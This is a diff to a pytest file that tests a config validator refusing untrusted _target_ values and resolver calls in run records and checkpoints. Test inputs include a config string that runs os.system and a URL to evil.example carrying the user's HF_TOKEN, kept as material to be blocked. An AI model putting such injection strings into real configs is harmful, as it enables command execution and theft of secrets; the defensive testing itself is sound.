@@ -39,8 +39,15 @@ def test_the_third_party_targets_are_those_of_conf() -> None:
 
 @pytest.mark.parametrize(
     "target",
-    ["os.system", "builtins.eval", "subprocess.run", "dspo.record.json.loads", "dspo.trust.os.system", "dspo", 3, None],
-)
+    [
+        "os.system", "builtins.eval", "subprocess.run", "dspo.record.json.loads", "dspo.trust.os.system", "dspo",
+        3, None,
+        "dspo.testing.run_to_exit",  # runs any command: test helpers are not shipped targets
+        "dspo.testing.PidEnvironment",  # a class, but a test helper (it writes a file)
+        "dspo.trust.import_modules",  # a dspo function that dspo's conf/ does not name (it imports any module)
+        "dspo.record.write_record",  # writes where it is told
+    ],
+)  # fmt: skip
 def test_what_dspo_does_not_ship_is_refused(target) -> None:
     assert not allowed_target(target)  # `dspo.trust.os.system` is os.system, reached through dspo's namespace
 
@@ -130,3 +137,37 @@ def test_resuming_from_a_foreign_folder_checkpoint_is_refused(tmp_path, monkeypa
     cfg = OmegaConf.create({"ckpt_path": str(folder), "allow_foreign_checkpoint": False})
     with pytest.raises(ForeignCheckpointError, match="allow_foreign_checkpoint=true"):
         resolve_ckpt_path(cfg)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "${oc.create:{_target_: os.system, _args_: [id]}}",  # builds a node with a target after the check
+        "http://evil.example/${oc.env:HF_TOKEN}",  # reads the user's secrets
+        "${oc.select:a,${oc.env:HOME}}",  # a resolver inside an allowed one
+        "${dspo.data_dir:}",
+    ],
+)
+def test_a_record_value_that_calls_a_resolver_is_refused(value) -> None:
+    section = {"_target_": "dspo.env.Environment", "reward": {"url": value}}
+    with pytest.raises(UntrustedRecordError, match=r"env.reward.url=.* calls a resolver"):
+        check_targets(section, "env", (), lambda key: False, "dspo_run.json")
+
+
+def test_references_to_other_keys_stay_allowed_and_tuples_are_walked() -> None:
+    refs = {"_target_": "dspo.env.SearchTool", "topk": "${rollout.agent.topk}", "seed": "${oc.select:seed,0}"}
+    check_targets(refs, "env", (), lambda key: False, "dspo_run.json")
+    hidden = {"_target_": "dspo.env.Environment", "reward": ({"_target_": "os.system"},)}  # a checkpoint's tuple
+    with pytest.raises(UntrustedRecordError, match=r"env.reward.0._target_='os.system'"):
+        check_targets(hidden, "env", (), lambda key: False, "dspo.ckpt")
+
+
+@pytest.mark.parametrize("override", ["rollout.agent={max_turns:3}", "rollout.agent.extra.deep=1"])
+def test_setting_part_of_the_agent_does_not_exempt_the_records_agent(record, override) -> None:
+    """The agent section is merged key by key: the record's keys the command line does not set are still adopted, so
+    they are still checked (a whole-section or a nested override used to switch the check off)."""
+    planted = copy.deepcopy(record)
+    planted["config"]["rollout"]["agent"]["extra"] = {"_target_": "os.system"}
+    cfg = compose_config("eval", [])
+    with pytest.raises(UntrustedRecordError, match="rollout.agent.extra._target_='os.system'"):
+        adopt(cfg, planted, [override], "/m/dspo_run.json", EVAL_SECTIONS)
